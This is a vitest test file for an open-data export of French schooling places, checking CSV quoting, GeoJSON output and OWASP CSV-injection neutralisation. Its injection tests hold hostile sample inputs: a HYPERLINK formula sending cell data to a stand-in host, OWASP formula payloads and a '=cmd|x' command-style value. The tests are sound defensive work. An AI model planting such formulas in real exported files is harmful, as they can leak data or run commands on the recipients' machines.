import { describe, expect, it } from 'vitest';
import { csvCell, exampleOf, neutralisedText, PLACE_COLUMNS, toCsv, toGeoJson, type PlaceRow } from '../../../src/lib/open-data/rows.ts';

const row = (over: Partial<PlaceRow>): PlaceRow => ({
  ...(Object.fromEntries(PLACE_COLUMNS.map((c) => [c, null])) as unknown as PlaceRow),
  id: 'micro-lycee-agen',
  nom: 'Micro-lycée d’Agen',
  type: 'micro-lycee',
  date_maj: '2020-01-14',
  source: 'Document',
  lien_source: 'https://exemple.fr/dispositifs/micro-lycee-agen/',
  ...over,
});

describe('open data rows', () => {
  it('use the field names of data·inclusion where they fit', () => {
    for (const name of [
      'id',
      'nom',
      'adresse',
      'code_postal',
      'code_insee',
      'commune',
      'latitude',
      'longitude',
      'telephone',
      'courriel',
      'site_web',
      'date_maj',
      'source',
    ]) {
      expect(PLACE_COLUMNS).toContain(name);
    }
  });

  it('take the first value that is there as an example', () => {
    expect(exampleOf([row({}), row({ uai: '0240013U' })], 'uai')).toBe('0240013U');
    expect(exampleOf([row({})], 'courriel')).toBe('');
  });

  it('keep numbers and booleans as they are and turn nothing into an empty CSV cell', () => {
    expect([null, undefined, true, false, 44.2, -0.57, 'a,b', ['a', 'b']].map(csvCell)).toEqual([
      '',
      '',
      true,
      false,
      44.2,
      -0.57,
      'a,b',
      'a | b',
    ]);
  });
});

/** The cells a spreadsheet set to `separator` sees: between quotes a separator is text, elsewhere it starts a cell. */
function cellsSeenWith(separator: string, csv: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (const c of csv) {
    if (c === '"') quoted = !quoted;
    if (!quoted && (c === separator || c === '\r' || c === '\n')) {
      cells.push(cell);
      cell = '';
    } else cell += c;
  }
  return [...cells, cell];
}

describe('CSV injection (OWASP)', () => {
  it('puts a single quote before a text that starts like a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'])
      expect(neutralisedText(`${start}HYPERLINK("https://ailleurs.example/?"&A1)`), JSON.stringify(start)).toBe(
        `'${start}HYPERLINK("https://ailleurs.example/?"&A1)`,
      );
    expect(neutralisedText('Micro-lycée = 2 ans')).toBe('Micro-lycée = 2 ans');
    expect(neutralisedText('')).toBe('');
    expect(csvCell('+33553744900')).toBe("'+33553744900");
    expect(csvCell(['-a', 'b'])).toBe("'-a | b");
  });

  it('writes the examples of the OWASP page as it shows them', () => {
    expect(toCsv([row({ nom: '=1+2";=1+2' })], PLACE_COLUMNS)).toContain(`,"'=1+2"";=1+2",`);
    expect(toCsv([row({ nom: `=1+2'" ;,=1+2` })], PLACE_COLUMNS)).toContain(`,"'=1+2'"" ;,=1+2",`);
  });

  it('quotes every text, so that no separator inside one starts a new cell, and leaves numbers and booleans bare', () => {
    const csv = toCsv(
      [row({ nom: 'Lycée A;=cmd|x', latitude: 44.2, longitude: -0.57, position_approximative: true, telephone: '+33553744900' })],
      PLACE_COLUMNS,
    );
    const [header, line] = csv.split('\r\n');
    expect(header).toBe(PLACE_COLUMNS.map((c) => `"${c}"`).join(','));
    expect(line).toContain('"Lycée A;=cmd|x"');
    expect(line).toContain(',44.2,-0.57,true,');
    expect(line).toContain(`"'+33553744900"`);
    // Read with a semicolon, as a spreadsheet set to French does, no cell starts with a formula character.
    expect(cellsSeenWith(';', csv).filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
  });
});

describe('GeoJSON', () => {
  it('has one point per placed row, longitude first (RFC 7946)', () => {
    const geojson = toGeoJson([row({ latitude: 44.2, longitude: 0.62 }), row({ id: 'sans-lieu' })]);
    expect(geojson.features).toHaveLength(1);
    expect(geojson.features[0]).toMatchObject({ id: 'micro-lycee-agen', geometry: { type: 'Point', coordinates: [0.62, 44.2] } });
    expect(geojson.features[0]!.properties).not.toHaveProperty('latitude');
  });
});
